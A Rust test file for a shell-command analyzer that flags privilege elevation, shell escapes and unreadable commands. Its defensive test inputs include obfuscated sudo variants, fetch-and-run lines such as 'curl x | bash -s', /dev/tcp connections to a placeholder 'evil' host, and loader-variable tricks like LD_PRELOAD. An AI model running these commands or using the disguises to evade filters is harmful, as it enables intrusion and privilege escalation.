use super::*;
use proptest::prelude::*;

fn read(text: &str) -> Reading {
    exec(text.as_bytes())
}

#[test]
fn ordinary_lines_are_read_whole() {
    for text in [
        "ls -la /tmp",
        "systemctl status nginx | grep active",
        "tail -n 50 /var/log/syslog",
        "git pull && make test",
        "uptime",
        "df -h; free -m",
        "cd /srv/app && ls",
        "ls *.log",
        "ls $HOME",
        "echo \"$USER is here\"",
        "journalctl -u nginx -n 100",
        "ps aux | grep -v grep | awk '{print $2}'",
        "cat /etc/hosts | sort | uniq -c",
        "test -f /etc/passwd && echo yes",
        "[ -d /srv ] || mkdir /srv",
        "for i in 1 2 3; do echo $i; done",
        "if [ -f x ]; then cat x; else echo no; fi",
        "while sleep 1; do date; done",
        "docker-compose ps",
        "find /var/log -name '*.log' -mtime +7",
        "find . -type f -exec wc -l {} +",
        "find . -exec rm {} \\;",
        "nice -n 10 rsync -a /a/ /b/",
        "timeout 5 curl -s http://localhost/",
        "env FOO=bar printenv FOO",
        "xargs rm < list",
        "ls | xargs -n 1 wc -l",
        "nohup ./run.sh > run.log 2>&1 &",
        "export LANG=C; date",
        "sed -n 1,5p file",
        "sed -i 's/a/b/g' file",
        "echo $(date)",
        "echo `date`",
        "date +%F > /tmp/x",
        "case $1 in start) echo a;; *) echo b;; esac",
        "FOO=1 ./tool --flag",
        "diff <(ls a) <(ls b)",
        "tar czf /backup/x.tgz /srv",
        "cat <<E\nhello\nE",
        "grep -r 'sudo id' /etc",
        "echo sudo",
        "! grep -q x y",
        "time ls",
        "command -v git",
        "(cd /tmp && ls)",
        "{ ls; date; }",
        "f() { ls; }; f",
        "sh -c 'ls -l | wc -l'",
        "cat \\\n  /etc/hosts",
        "git commit -m 'x'",
        "kill -9 1234",
        "set -e; ls",
        "true",
        "umask 022",
        "# only a comment",
    ] {
        let reading = read(text);
        assert!(!reading.is_opaque(), "{text}: {}", describe(&reading));
        assert!(reading.escapes.is_empty(), "{text}: {}", describe(&reading));
        assert!(
            reading.elevation.is_empty(),
            "{text}: {}",
            describe(&reading)
        );
    }
}

#[test]
fn sudo_is_found_behind_every_disguise() {
    for text in [
        "sudo id",
        "s\\udo id",
        "'su'do id",
        "\"sudo\" id",
        "$'\\x73udo' id",
        "/usr/bin/sudo id",
        "../sudo id",
        "ls; sudo id",
        "ls && sudo id",
        "ls || sudo id",
        "ls | sudo tee x",
        "ls & sudo id",
        "(sudo id)",
        "( ( sudo id ) )",
        "{ sudo id; }",
        "if sudo id; then ls; fi",
        "if ls; then sudo id; fi",
        "if a; then b; elif sudo id; then c; fi",
        "if a; then b; else sudo id; fi",
        "for i in 1; do sudo id; done",
        "while sudo id; do ls; done",
        "until ls; do sudo id; done",
        "case x in x) sudo id;; esac",
        "f() { sudo id; }; f",
        "echo $(sudo id)",
        "echo \"a $(sudo id) b\"",
        "echo `sudo id`",
        "cat <(sudo id)",
        "echo x > >(sudo tee y)",
        "x=$(sudo id)",
        "X=1 sudo id",
        "! sudo id",
        "time sudo id",
        "env sudo id",
        "env -i A=b sudo id",
        "env -u X -- sudo id",
        "nice sudo id",
        "nice -n 5 sudo id",
        "nice -5 sudo id",
        "nohup sudo id",
        "timeout 5 sudo id",
        "timeout -k 1 -s KILL 5s sudo id",
        "timeout --signal=KILL 5 sudo id",
        "xargs sudo id",
        "xargs -n 1 sudo rm",
        "find . -exec sudo rm {} \\;",
        "find . -execdir sudo rm {} +",
        "find . -ok sudo rm {} ';'",
        "sh -c 'sudo id'",
        "bash -lc \"sudo id\"",
        "bash -euo pipefail -c 'sudo id'",
        "dash -c 'sh -c \"sudo id\"'",
        "exec sudo id",
        "exec -a x sudo id",
        "command sudo id",
        "builtin command sudo id",
        "eval sudo id",
        "eval 'sudo' 'id'",
        "setsid -w sudo id",
        "stdbuf -oL sudo id",
        "ionice -c 3 sudo id",
        "chrt -f 5 sudo id",
        "taskset -c 0,1 sudo id",
        "watch -n 1 sudo id",
        "watch 'ls; sudo id'",
        "flock /tmp/l sudo id",
        "flock /tmp/l -c 'sudo id'",
        "script -c 'sudo id' /dev/null",
        "script -qc 'sudo id'",
        "ssh web1 sudo id",
        "ssh -p 22 root@web1 'ls; sudo id'",
        "busybox env sudo id",
        "busybox sh -c 'sudo id'",
        "env nice nohup timeout 5 setsid sudo id",
        "sudo -u postgres -n psql",
        "sudo\tid",
        "\nsudo id\n",
        "su\\\ndo id",
        "[[ -n $(sudo id) ]]",
        "echo ${x:-$(sudo id)}",
        "a | b | c | sudo d",
    ] {
        let reading = read(text);
        let seen = reading.elevation.contains("sudo") || reading.is_opaque();
        assert!(seen, "{text}: {}", describe(&reading));
        let exceptions = ["[[", "${x:-", "( ("].iter().any(|w| text.contains(w));
        assert!(
            exceptions || reading.elevation.contains("sudo"),
            "{text}: {}",
            describe(&reading)
        );
    }
}

#[test]
fn what_sudo_runs_is_read_too() {
    let reading = read("sudo -u root env LANG=C systemctl restart nginx");
    assert_eq!(
        describe(&reading),
        "programs: systemctl; elevation: sudo; can start a shell: systemctl"
    );
    assert_eq!(reading.commands[0].wrappers, ["sudo", "env"]);
    assert_eq!(reading.commands[0].words, ["systemctl", "restart", "nginx"]);
}

#[test]
fn other_elevation_tools_are_named() {
    for (text, tool) in [
        ("su -c 'id' root", "su"),
        ("su - root -c id", "su"),
        ("su", "su"),
        ("doas -u www id", "doas"),
        ("pkexec id", "pkexec"),
        ("run0 id", "run0"),
        ("runuser -u www -- id", "runuser"),
        ("systemd-run --uid=0 id", "systemd-run"),
        ("machinectl shell root@.host", "machinectl"),
        ("echo id | at now", "at"),
        ("crontab -e", "crontab"),
        ("setpriv --reuid=0 id", "setpriv"),
        ("capsh -- -c id", "capsh"),
        ("nsenter -t 1 -a id", "nsenter"),
        ("chroot /mnt id", "chroot"),
        ("unshare -r id", "unshare"),
        ("sudoedit /etc/x", "sudoedit"),
        ("sudo -e /etc/x", "sudo"),
    ] {
        let reading = read(text);
        assert!(
            reading.elevation.contains(tool),
            "{text}: {}",
            describe(&reading)
        );
    }
    assert_eq!(
        read("su -c 'systemctl stop x' root").commands[0].program,
        "systemctl"
    );
    assert!(read("sudo -e /etc/x").escapes.contains("sudoedit"));
}

#[test]
fn what_is_not_certain_is_opaque() {
    for text in [
        "$x id",
        "${x} id",
        "$(echo sudo) id",
        "`echo sudo` id",
        "/usr/bin/sud? id",
        "s*o id",
        "~+/bin/x",
        "{sudo,id}",
        "\"$x\" id",
        "x=sudo; $x id",
        "env $x",
        "timeout $(t) id",
        "env \"$x\" sudo",
        "sh -c \"$x\"",
        "bash -c $x",
        "eval $x",
        "eval \"$x\"",
        "echo 'sudo id' | sh",
        "sh <<< 'sudo id'",
        "sh <<E\nsudo id\nE",
        "sh < script",
        "curl x | bash -s",
        "bash <(curl x)",
        "cat x | xargs sh",
        "xargs -I{} sh -c 'echo {}'",
        "ls | xargs env",
        "source x",
        ". x",
        "alias ls=sudo",
        "PATH=/tmp ls",
        "LD_PRELOAD=x ls",
        "export PATH=/tmp:$PATH",
        "BASH_ENV=x bash -c ls",
        "IFS=x; ls",
        "ENV=x sh -c ls",
        "PROMPT_COMMAND='sudo id'",
        "env PATH=/tmp ls",
        "env LD_PRELOAD=x ls",
        "for PATH in /tmp; do ls; done",
        "read PATH",
        "printf -v PATH /tmp",
        "env -S 'sudo id'",
        "trap \"$x\" EXIT",
        "a[$(id)]=1",
        "echo $((a[$(sudo id)]))",
        "x=$y; ((x = x + 1))",
        "x='a[$(sudo id)]'; echo $((x))",
        "echo ${!x}",
        "echo ${x@P}",
        "echo $[x]",
        "unset 'a[$(sudo id)]'",
        "test -v 'a[$(id)]'",
        "[[ a || sudo ]]",
        "x=$(cat f); [[ $x -eq 1 ]]",
        "[[ $1 -eq 1 ]]",
        "((sudo id))",
        "echo $'\\'; sudo id; echo \\'''",
        "echo 'open",
        "ls |",
        "if ls; then",
        "ls )",
        "=sudo id",
        "parallel sudo ::: id",
        "ssh -o ProxyCommand=x host ls",
        "find $x -name y",
        "env -Z x",
        "bash --rcfile x",
        "let x=$y",
        "coproc sudo id",
        "hash -p /tmp/x ls",
        "enable -f x y",
        "fc -s",
        "let 'a[$(id)]'",
        "mapfile -C x",
        "ls\u{7}",
        "ls\0",
        "ls\rsudo id",
        "declare -n x='a[$(id)]'",
        "echo `a \\`b\\``",
        "cat <<E\n$(sh -c \"$x\")\nE",
        "su root -- -c id",
        "at now",
        "LESSOPEN='|sudo id' cat x",
        "GIT_SSH_COMMAND=x git pull",
        "select x in a; do sudo id; done",
    ] {
        let reading = read(text);
        assert!(reading.is_opaque(), "{text}: {}", describe(&reading));
    }
    assert!(exec(b"ls \xff").is_opaque());
}

#[test]
fn an_opaque_text_keeps_its_sudo() {
    for text in [
        "sudo id \"",
        "sudo id\r",
        "\"; 'su'do id",
        "select x in a; do sudo id; done",
        "cat <<E\n$[x]\nE\nsudo id",
        "sh -c 'sudo id \"'",
        "echo 'sudo id' | sh",
        "parallel sudo ::: id",
        "alias ls=sudo",
        "=sudo id",
    ] {
        let reading = read(text);
        assert!(reading.is_opaque(), "{text:?}");
        assert!(reading.elevation.contains("sudo"), "{text:?}");
    }
    assert!(exec(b"sudo id \xff").elevation.contains("sudo"));
    let long = format!("echo {}; sudo id", "a".repeat(40_000));
    assert!(read(&long).is_opaque() && read(&long).elevation.contains("sudo"));
}

#[test]
fn a_doubtful_text_is_read_and_doubted() {
    let reading = doubtful(b"ls; sudo id", "it may go on");
    assert_eq!(
        describe(&reading),
        "programs: id, ls; elevation: sudo; could not read: it may go on"
    );
    assert!(doubtful(b"echo 'sudo id'", "x").elevation.contains("sudo"));
    assert!(doubtful(b"", "x").is_opaque());
}

#[test]
fn variables_by_which_something_is_loaded_or_run_are_opaque() {
    for name in [
        "MAIL MAILPATH MAILCHECK histchars HISTFILE LOCPATH NLSPATH MALLOC_TRACE BASH_XTRACEFD HOSTALIASES MAGIC",
        "auto_resume TERMINFO TERMINFO_DIRS TERMCAP INPUTRC COLUMNS LINES PS0 PS2 PS3 PS4 PROMPT_COMMAND",
        "PROMPT_DIRTRIM FCEDIT EDITOR VISUAL PAGER MANPAGER SYSTEMD_PAGER LESS LESSOPEN LESSKEY GIT_SSH LD_AUDIT",
        "BASH_FUNC_x GLOBIGNORE SHELLOPTS BASHOPTS CDPATH FPATH ZDOTDIR HOME PATH CC RUSTC_WRAPPER MY_PRELOAD",
    ]
    .iter()
    .flat_map(|names| names.split(' '))
    {
        for text in [
            format!("{name}=x ls"),
            format!("{name}=x"),
            format!("export {name}=x"),
            format!("env {name}=x ls"),
        ] {
            assert!(read(&text).is_opaque(), "{text}");
        }
    }
    for text in [
        "FOO=bar make",
        "x=1; echo $x",
        "LC_ALL=C sort f",
        "TZ=UTC date",
        "DEBIAN_FRONTEND=noninteractive apt-get -y install x",
        "NODE=db1; echo $NODE",
        "DEBUG=1 VERSION=2 ./build",
        "file=x; cat $file",
    ] {
        assert!(!read(text).is_opaque(), "{text}");
    }
}

#[test]
fn a_shell_started_without_text_is_an_escape() {
    for text in [
        "bash",
        "sh",
        "sh -l",
        "bash -i",
        "sudo -i",
        "sudo -s",
        "su -",
        "sudo bash",
        "bash script.sh",
        "exec zsh",
        "env bash",
        "ssh web1",
        "script",
    ] {
        let reading = read(text);
        assert!(
            !reading.escapes.is_empty(),
            "{text}: {}",
            describe(&reading)
        );
    }
}

#[test]
fn programs_that_run_code_are_escapes() {
    for text in [
        "vim x",
        "python3 -c 'x'",
        "python3.11 x",
        "perl -e x",
        "less x",
        "man ls",
        "/usr/bin/vi",
        "vim.basic x",
        "awk 'BEGIN{system(\"id\")}'",
        "awk '{print | \"sh\"}'",
        "awk -f x",
        "sed '1e id'",
        "sed 's/a/b/e'",
        "sed -f x",
        "tar cf x --checkpoint-action=exec=id y",
        "tar -I 'sh -c id' -xf x",
        "tar xf x --to-com=id",
        "git -c core.pager=x log",
        "git rebase -x id",
        "git mine",
        "git commit",
        "docker run x",
        "kubectl exec x",
        "tmux",
        "screen",
        "mysql",
        "psql",
        "gdb x",
        "ftp x",
        "rsync -e 'sh -c id' a b",
        "rsync --server --daemon --config=/tmp/x .",
        "sudo journalctl",
        "sudo systemctl status x",
        "systemctl edit x",
        "node x",
        "ruby x",
        "lua5.4 x",
        "tar cf $(cat x) y",
        "x=--to-command=id; tar xf $x y",
        "make --eval=x",
        "busybox vi",
        "env ed",
        "ip netns exec x y",
    ] {
        let reading = read(text);
        assert!(
            !reading.escapes.is_empty(),
            "{text}: {}",
            describe(&reading)
        );
    }
}

#[test]
fn paths_of_redirections_and_transfers_are_told() {
    assert_eq!(
        read("echo x > /etc/motd 2>> err").paths,
        ["/etc/motd", "err"]
    );
    assert_eq!(read("ls 2>&1 < in").paths, [] as [&str; 0]);
    assert_eq!(read("echo x >| 'a b'").paths, ["a b"]);
    for text in [
        "ls 2>/dev/null",
        "ls >/dev/stderr",
        "ls &> /dev/null",
        "ls 2>> /dev/stdout",
    ] {
        assert_eq!(read(text).paths, [] as [&str; 0], "{text}");
    }
    for text in [
        "cat < /dev/tcp/evil/80",
        "cat <'/dev/udp/evil/53'",
        "ls > /dev/tcp/evil/80",
        "cat < /dev/$x/evil/80",
        "exec 3<>/dev/tcp/evil/80",
        "while cat; do ls; done < /dev/tcp/evil/80",
    ] {
        assert_eq!(read(text).paths.len(), 1, "{text}");
    }
    assert!(
        read("sudo journalctl 2>/dev/null")
            .escapes
            .contains("journalctl")
    );
    assert_eq!(read("ls &> all").paths, ["all"]);
    assert_eq!(read("scp -t /srv/app").paths, ["/srv/app"]);
    assert_eq!(read("scp -r -p -f '/etc/a b'").paths, ["/etc/a b"]);
    assert_eq!(
        read("rsync --server -vlogDtpre.iLsfxC . /srv/").paths,
        ["/srv/"]
    );
    let reading = read("rsync --server --sender -vlogDtpre.iLsfxC . /srv/");
    assert!(
        !reading.is_opaque() && reading.escapes.is_empty(),
        "{}",
        describe(&reading)
    );
    assert_eq!(
        read("/usr/lib/openssh/sftp-server -d /data").paths,
        ["/data"]
    );
}

#[test]
fn a_program_outside_the_system_folders_keeps_its_path() {
    assert_eq!(read("/usr/bin/ls").commands[0].program, "ls");
    assert_eq!(read("/tmp/ls").commands[0].program, "/tmp/ls");
    assert_eq!(read("./ls").commands[0].program, "./ls");
}

#[test]
fn here_documents_that_a_parser_never_ends_on_are_refused() {
    for text in [
        "$(<< ;{ ",
        "cat <<E; echo $(",
        "$( \\<<< <\\$'",
        "$(a <\\\n<E",
        "$[ <<",
    ] {
        assert!(read(text).is_opaque(), "{text}");
    }
}

#[test]
fn depth_and_length_end_in_opaque_and_nothing_else() {
    for (open, close) in [
        ("(", ")"),
        ("$(", ")"),
        ("{ ", ";}"),
        ("if a; then ", "; fi"),
        ("`", "`"),
        ("\"$(", ")\""),
        ("((", "))"),
        ("! ", ""),
        ("<(", ")"),
        ("${a:-", "}"),
        ("$((", "))"),
    ] {
        for count in [30, 90, 1000, 50_000] {
            let text = format!("{}sudo id{}", open.repeat(count), close.repeat(count));
            let reading = read(&text);
            assert!(
                reading.is_opaque() || reading.elevation.contains("sudo"),
                "{open} {count}"
            );
        }
    }
    for part in [
        "env ",
        "a&&",
        "a|",
        "find -exec ",
        "a=b ",
        "x ",
        "'",
        "\"",
        "ls;",
        "\\",
        "<<E\n",
        "sudo ",
    ] {
        let text = part.repeat(4000);
        let _ = read(text.get(..16_000).unwrap_or(&text));
    }
}

#[test]
fn a_description_tells_everything_in_one_line() {
    assert_eq!(describe(&Reading::default()), "no command");
    assert_eq!(
        describe(&read("sudo systemctl restart x | cat")),
        "programs: cat, systemctl; elevation: sudo"
    );
    assert_eq!(
        describe(&read("vi\nx > y")),
        "programs: vi, x; can start a shell: vi; paths: y"
    );
    assert!(describe(&read("$x")).ends_with(
        "could not read: a program name that is computed: a variable or a command substitution"
    ));
}

fn soup() -> impl Strategy<Value = String> {
    let token = prop::sample::select(vec![
        "sudo", "sh", "-c", "env", "xargs", "find", "-exec", ";", "{}", "+", "(", ")", "{", "}",
        "$(", "`", "'", "\"", "|", "||", "&&", "&", ">", "<", "<<", "<<E", "<<<", "<(", "$x", "${",
        "$((", "))", "[[", "]]", "if", "then", "fi", "do", "done", "for", "in", "case", "esac",
        ";;", "\\", "\n", "=", "A=", "a[", "]", "!", "time", "#", "eval", "su", "ssh", "*", "~",
        "$'", "function", "awk", "sed", "s/a/b/", "--", "-I", "git",
    ]);
    prop::collection::vec((token, any::<bool>()), 0..40).prop_map(|tokens| {
        tokens
            .into_iter()
            .map(|(token, space)| {
                if space {
                    format!("{token} ")
                } else {
                    token.to_owned()
                }
            })
            .collect()
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    #[test]
    fn any_bytes_are_read_without_panic(bytes: Vec<u8>) {
        let _ = describe(&exec(&bytes));
    }

    #[test]
    fn any_soup_of_shell_words_is_read_without_panic(text in soup()) {
        let _ = describe(&exec(text.as_bytes()));
    }

    #[test]
    fn sudo_before_anything_is_seen(text in soup()) {
        let reading = exec(format!("sudo id; {text}").as_bytes());
        prop_assert!(reading.is_opaque() || reading.elevation.contains("sudo"));
    }
}

#[test]
fn a_shell_or_an_interpreter_that_is_given_nothing_else_runs_its_input() {
    use StandardInput::{Code, Commands, Data};
    for (text, input) in [
        ("bash", Commands),
        ("/bin/sh -s one two", Commands),
        ("bash -e", Commands),
        ("env X=1 nice bash", Commands),
        ("cd /srv && bash", Commands),
        ("sudo -s", Commands),
        ("sudo bash", Commands),
        ("bash /dev/stdin", Commands),
        ("sh -c bash", Commands),
        ("python3 -", Code),
        ("python3.11 -u", Code),
        ("psql -U postgres db", Code),
        ("psql -c 'select 1'", Data),
        ("perl -e 'print 1'", Data),
        ("bash script.sh", Data),
        ("bash < script.sh", Data),
        ("echo id | bash", Data),
        ("cat > /tmp/file", Data),
        ("tar x", Data),
    ] {
        let reading = piped(text.as_bytes());
        assert_eq!(reading.input, input, "{text}");
        if input != Data {
            assert!(reading.is_opaque(), "{text}");
        }
    }
    assert_eq!(exec(b"bash").input, Data);
}

proptest! {
    #[test]
    fn a_client_s_input_makes_a_reading_stricter_and_never_laxer(text in soup()) {
        let (alone, fed) = (exec(text.as_bytes()), piped(text.as_bytes()));
        prop_assert!(alone.input.is_data());
        prop_assert_eq!(&alone.commands, &fed.commands);
        prop_assert!(alone.unknowns.iter().all(|unknown| fed.unknowns.contains(unknown)) || fed.unknowns.len() >= 16);
        prop_assert!(fed.input.is_data() || fed.is_opaque());
    }
}

#[test]
fn a_script_is_read_with_the_shell_that_runs_it() {
    let reading = fed(
        b"bash",
        b"cd /srv\nif true\nthen sudo systemctl restart nginx > log\nfi\n",
    );
    assert!(reading.is_opaque());
    assert_eq!(reading.elevation, BTreeSet::from(["sudo".to_owned()]));
    let programs = reading.programs();
    assert!(
        ["bash", "cd", "systemctl"]
            .iter()
            .all(|p| programs.contains(*p)),
        "{programs:?}"
    );
    assert_eq!(reading.paths, ["log"]);
    let reading = fed(b"python3", b"import os\nos.system('sudo id')\n");
    assert_eq!(reading.elevation, BTreeSet::from(["sudo".to_owned()]));
    assert_eq!(reading.input, StandardInput::Code);
}

proptest! {
    #[test]
    fn any_bytes_as_a_script_are_read_and_stay_in_doubt(command in "(bash|python3|sudo -s|.{0,10})", script in prop::collection::vec(any::<u8>(), 0..200)) {
        let reading = fed(command.as_bytes(), &script);
        prop_assert!(reading.input.is_data() || reading.is_opaque());
    }
}

#[test]
fn what_reads_its_input_takes_what_is_typed_behind_it() {
    for text in [
        "head -c 6",
        "head -n5",
        "cat",
        "cat -",
        "cat file -",
        "cat /dev/stdin",
        "cd /dev; cat tty",
        "tail -c 3 -",
        "grep -c x",
        "grep -f - file",
        "grep x < /dev/tty",
        "wc --files0-from=-",
        "tr a b",
        "cut -d : -f 1",
        "read -n 6 x",
        "sha256sum -c",
        "id; head -c 1",
        "head -c 6 <&0",
        "head -c 6 $file",
        "while true; do head -c 1; done",
        "x=$(head -c 6)",
        "env head -c 6",
    ] {
        assert!(typed(text.as_bytes()).is_opaque(), "{text}");
        assert!(lines(text.as_bytes()).is_opaque(), "{text}");
    }
    for text in [
        "head -c 6 file",
        "head -n 5 /var/log/syslog",
        "tail -f /var/log/syslog",
        "cat a b",
        "grep -c x file",
        "grep -e x file",
        "ps aux | grep -v grep | head -5",
        "cut -d : -f 1 /etc/passwd",
        "wc -l < file",
        "df -h | tr -s ' '",
        "sha256sum file",
        "echo hello",
    ] {
        assert!(!typed(text.as_bytes()).is_opaque(), "{text}");
    }
    assert!(
        !exec(b"head -c 6").is_opaque(),
        "its input is data to an exec request"
    );
}
